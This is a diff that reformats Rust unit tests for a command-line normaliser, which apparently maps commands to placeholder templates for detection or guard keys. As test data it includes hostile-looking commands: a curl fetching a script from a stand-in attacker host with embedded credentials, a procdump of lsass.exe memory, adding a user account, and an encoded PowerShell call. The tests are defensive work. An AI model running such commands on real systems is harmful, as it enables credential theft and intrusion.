@@ -9,20 +9,47 @@ fn c(line: &str) -> String {
 #[test]
 fn volatile_parts_become_placeholders() {
     let cases = [
-        (r#""C:\Program Files\X\a.exe"   /Id:{3EB3C877-1F16-487C-9050-104DBCD66683}"#, r#""c:\program files\x\a.exe" /id:{<guid>}"#),
-        (r"C:\Users\pedro\AppData\Local\Microsoft\OneDrive\19.002.0107.0005\F.exe", r"c:\users\<user>\appdata\local\microsoft\onedrive\<ver>\f.exe"),
-        ("curl -k https://bob:pw@evil.example.com:8443/a/b.sh?x=1&y=2 -o /tmp/x91.sh", "curl -k https://<user>@<host>:<num>/a/b.sh?<query> -o <tmp>.sh"),
-        (r"net use \\fs01.corp.local\share42 /user:CORP\bob", r"net use \\<host>\share<num> /user:<user>"),
+        (
+            r#""C:\Program Files\X\a.exe"   /Id:{3EB3C877-1F16-487C-9050-104DBCD66683}"#,
+            r#""c:\program files\x\a.exe" /id:{<guid>}"#,
+        ),
+        (
+            r"C:\Users\pedro\AppData\Local\Microsoft\OneDrive\19.002.0107.0005\F.exe",
+            r"c:\users\<user>\appdata\local\microsoft\onedrive\<ver>\f.exe",
+        ),
+        (
+            "curl -k https://bob:pw@evil.example.com:8443/a/b.sh?x=1&y=2 -o /tmp/x91.sh",
+            "curl -k https://<user>@<host>:<num>/a/b.sh?<query> -o <tmp>.sh",
+        ),
+        (
+            r"net use \\fs01.corp.local\share42 /user:CORP\bob",
+            r"net use \\<host>\share<num> /user:<user>",
+        ),
         ("ping -n 5 10.0.0.7", "ping -n <num> <ip>"),
         ("ls -R /home/alice/src 2>&1", "ls -R /home/<user>/src 2>&1"),
-        ("tar czf backup-2024-02-02.tgz /Users/bob/doc", "tar czf backup-<date>.tgz /Users/<user>/doc"),
-        ("sha256sum -c 81d310fa34e6a56a31145445891bb7b8", "sha256sum -c <hash>"),
+        (
+            "tar czf backup-2024-02-02.tgz /Users/bob/doc",
+            "tar czf backup-<date>.tgz /Users/<user>/doc",
+        ),
+        (
+            "sha256sum -c 81d310fa34e6a56a31145445891bb7b8",
+            "sha256sum -c <hash>",
+        ),
         ("ssh root@db7 uptime", "ssh <email> uptime"),
-        ("chmod 4755 x9 && kill -9 1234", "chmod 4755 x<num> && kill -<num> <num>"),
+        (
+            "chmod 4755 x9 && kill -9 1234",
+            "chmod 4755 x<num> && kill -<num> <num>",
+        ),
         ("head -n5 'a b' \"c\" 'd'", "head -n<num> 'a b' c d"),
         ("a \\\n  b\nc\n", "a b ; c"),
-        ("Invoke-Command -ComputerName SRV01 -ScriptBlock { whoami }", "invoke-command -computername <host> -scriptblock { whoami }"),
-        ("procdump -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp %TEMP%\\a1b2.dmp", "procdump -ma lsass.exe <tmp>/lsass.dmp <tmp>.dmp"),
+        (
+            "Invoke-Command -ComputerName SRV01 -ScriptBlock { whoami }",
+            "invoke-command -computername <host> -scriptblock { whoami }",
+        ),
+        (
+            "procdump -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp %TEMP%\\a1b2.dmp",
+            "procdump -ma lsass.exe <tmp>/lsass.dmp <tmp>.dmp",
+        ),
     ];
     for (line, expected) in cases {
         assert_eq!(c(line), expected, "{line}");
@@ -39,13 +66,22 @@ fn quotes_that_hold_white_space_or_operators_stay() {
 #[test]
 fn linux_keeps_its_case_and_windows_folds_it() {
     assert_ne!(c("ls -R"), c("ls -r"));
-    assert_eq!(c("C:\\Windows\\System32\\NOTEPAD.exe /A"), c("c:\\windows\\system32\\notepad.EXE /a"));
+    assert_eq!(
+        c("C:\\Windows\\System32\\NOTEPAD.exe /A"),
+        c("c:\\windows\\system32\\notepad.EXE /a")
+    );
 }
 
 #[test]
 fn names_with_digits_are_kept() {
-    assert_eq!(c("python3 -m sha512 --ipv6 x64 k8s"), "python3 -m sha512 --ipv6 x64 k8s");
-    assert_ne!(template_hash("openssl dgst -sha1"), template_hash("openssl dgst -sha256"));
+    assert_eq!(
+        c("python3 -m sha512 --ipv6 x64 k8s"),
+        "python3 -m sha512 --ipv6 x64 k8s"
+    );
+    assert_ne!(
+        template_hash("openssl dgst -sha1"),
+        template_hash("openssl dgst -sha256")
+    );
 }
 
 #[test]
@@ -53,9 +89,15 @@ fn encoded_commands_are_told_apart_by_what_they_decode_to() {
     use base64::Engine as _;
     let encode = |text: &str| {
         let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
-        format!("powershell -nop -enc {}", base64::engine::general_purpose::STANDARD.encode(bytes))
+        format!(
+            "powershell -nop -enc {}",
+            base64::engine::general_purpose::STANDARD.encode(bytes)
+        )
     };
-    assert_ne!(c(&encode("Start-Service bits")), c(&encode("Stop-Service bits")));
+    assert_ne!(
+        c(&encode("Start-Service bits")),
+        c(&encode("Stop-Service bits"))
+    );
     assert_eq!(c(&encode("Start-Sleep 10")), c(&encode("Start-Sleep 99")));
     assert!(c(&encode("Start-Sleep 10")).contains("<enc:"));
 }
@@ -76,16 +118,47 @@ fn nothing_comes_of_nothing() {
 fn equal_templates_have_equal_guard_keys() {
     let (a, b) = ("net user bob1 /add", "NET  user bob22 /ADD");
     assert_eq!(template_hash(a), template_hash(b));
-    assert_eq!(super::super::guard::guard_key(a), super::super::guard::guard_key(b));
+    assert_eq!(
+        super::super::guard::guard_key(a),
+        super::super::guard::guard_key(b)
+    );
 }
 
 #[test]
 fn a_hostile_mebibyte_takes_linear_time() {
-    let seeds = ["a", "A1/", "1.", "0x", "\"", "' ", "http://", "http://a?", "a@", "1:", "ff:", "a.b-", "\\\\", "<num>", "/tmp/", "$(", "%temp%\\", "\u{1f980}", "C:\\Users\\", "QQBB", "-enc QQBBAEEA ", "\\\"", "-e \"a b\" "];
+    let seeds = [
+        "a",
+        "A1/",
+        "1.",
+        "0x",
+        "\"",
+        "' ",
+        "http://",
+        "http://a?",
+        "a@",
+        "1:",
+        "ff:",
+        "a.b-",
+        "\\\\",
+        "<num>",
+        "/tmp/",
+        "$(",
+        "%temp%\\",
+        "\u{1f980}",
+        "C:\\Users\\",
+        "QQBB",
+        "-enc QQBBAEEA ",
+        "\\\"",
+        "-e \"a b\" ",
+    ];
     for seed in seeds {
         let line = seed.repeat((1 << 20) / seed.len());
         let start = std::time::Instant::now();
         let _ = c(&line);
-        assert!(start.elapsed().as_secs() < 5, "{seed}: {:?}", start.elapsed());
+        assert!(
+            start.elapsed().as_secs() < 5,
+            "{seed}: {:?}",
+            start.elapsed()
+        );
     }
 }
